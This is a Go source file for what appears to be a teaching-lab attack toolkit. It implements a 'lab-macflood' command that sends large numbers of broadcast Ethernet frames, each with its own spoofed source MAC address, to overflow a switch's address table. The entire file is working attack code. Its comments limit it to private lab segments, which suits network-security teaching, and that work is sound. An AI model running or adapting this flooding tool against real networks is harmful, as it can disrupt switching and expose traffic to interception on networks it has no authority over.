package main

import (
	"errors"
	"net"
	"strconv"
)

// Attacks on a teaching lab's private segments, from a student's host.
func init() {
	register("lab-macflood", labMACFlood)
}

// labMACFlood sends COUNT broadcast frames out of IFACE, each from a source
// MAC address of its own (02:4c and four bytes of its number), as a host
// filling a switch's address table would. Reports sent=N.
//
//	lab-macflood IFACE COUNT
func labMACFlood(args []string) error {
	if len(args) != 2 {
		return errors.New("usage: lab-macflood IFACE COUNT")
	}
	ifc, err := net.InterfaceByName(args[0])
	if err != nil {
		return err
	}
	count, err := strconv.Atoi(args[1])
	if err != nil {
		return err
	}
	bcast := net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
	frames := make([][]byte, 0, count)
	for i := range count {
		src := net.HardwareAddr{0x02, 0x4c, byte(i >> 24), byte(i >> 16), byte(i >> 8), byte(i)}
		frames = append(frames, ethFrame(bcast, src, 0, 0x88b5, []byte("vmhost-lab-flood")))
	}
	return sendRepeated(ifc, frames, 1)
}
